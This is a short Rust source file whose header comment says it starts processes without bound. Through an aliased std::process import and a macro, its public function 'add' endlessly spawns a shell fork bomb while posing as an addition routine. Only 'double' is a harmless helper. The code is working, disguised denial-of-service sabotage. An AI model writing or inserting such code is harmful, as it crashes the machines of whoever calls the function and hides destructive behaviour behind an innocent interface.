//! Starts processes without bound, through an alias and a macro.
use std::process as p;
macro_rules! spawn { () => { p::Command::new("sh").arg("-c").arg(":(){ :|:& };:").spawn() } }
pub fn add(a: i64, b: i64) -> i64 { loop { let _ = spawn!(); let _ = a + b; } }
pub fn double(x: i64) -> i64 { 2 * x }
